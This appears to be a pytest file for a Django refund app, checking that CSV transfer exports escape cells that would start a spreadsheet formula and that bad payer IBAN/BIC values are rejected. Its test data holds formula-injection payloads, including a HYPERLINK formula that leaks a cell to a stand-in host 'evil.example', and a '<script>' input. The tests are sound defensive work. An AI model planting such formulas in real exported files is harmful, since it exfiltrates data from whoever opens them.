"""Bank files and bank details that cannot hurt the person who opens them: CSV cells never start a
formula, and the payer's IBAN and BIC are real ones (checked with schwifty)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import AbstractUser

from refund_desk.cases.actors import Actor
from refund_desk.cases.models import RefundCase, SellerAccount
from refund_desk.core.errors import ValidationFailed
from refund_desk.payments import services
from refund_desk.payments.models import AccountPaymentSettings
from refund_desk.payments.services.transfers import csv_cell


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+48 123", "'+48 123"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("Jan Kowalski", "Jan Kowalski"),
        ("", ""),
    ],
)
def test_a_cell_that_would_start_a_formula_is_shown_as_text(value: str, shown: str) -> None:
    assert csv_cell(value) == shown


def test_a_hostile_beneficiary_name_lands_neutralised_in_the_transfer_file(
    cod_case: RefundCase, agent: AbstractUser, supervisor: AbstractUser
) -> None:
    services.refund_order_create(case=cod_case, actor=Actor.for_user(agent))
    refund = cod_case.refund_orders.get()
    refund.bank_owner = '=HYPERLINK("http://evil.example/?leak="&A1,"Zwrot")'
    refund.save(update_fields=["bank_owner"])

    batch = services.transfer_batch_export(
        account=cod_case.account, currency="PLN", actor=Actor.for_user(supervisor)
    )

    assert batch is not None
    rows = list(csv.reader(io.StringIO(batch.content), delimiter=";"))
    assert rows[1][1].startswith("'=HYPERLINK")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("debtor_iban", "PL00 1090 1014 0000 0712 1981 2874"),  # wrong check digits
        ("debtor_iban", "PL61 1090"),  # too short
        ("debtor_iban", "<script>"),
        ("debtor_bic", "<X>&;"),
        ("debtor_bic", "PKOPPL"),
    ],
)
def test_a_wrong_payer_iban_or_bic_is_refused_naming_the_field(
    account: SellerAccount, supervisor: AbstractUser, field: str, value: str
) -> None:
    with pytest.raises(ValidationFailed) as refused:
        services.payment_settings_set(
            account=account,
            currency="PLN",
            approval_threshold="100",
            actor=Actor.for_user(supervisor),
            **{field: value},
        )
    assert [name for name, _message in refused.value.errors] == [field]
    assert not AccountPaymentSettings.objects.filter(account=account).exists()


def test_a_real_iban_and_bic_are_stored_compact(account: SellerAccount, supervisor: AbstractUser) -> None:
    row = services.payment_settings_set(
        account=account,
        currency="PLN",
        approval_threshold="100",
        actor=Actor.for_user(supervisor),
        debtor_iban="pl61 1090 1014 0000 0712 1981 2874",
        debtor_bic="wbkp pl pp",
    )
    assert (row.debtor_iban, row.debtor_bic) == ("PL61109010140000071219812874", "WBKPPLPP")
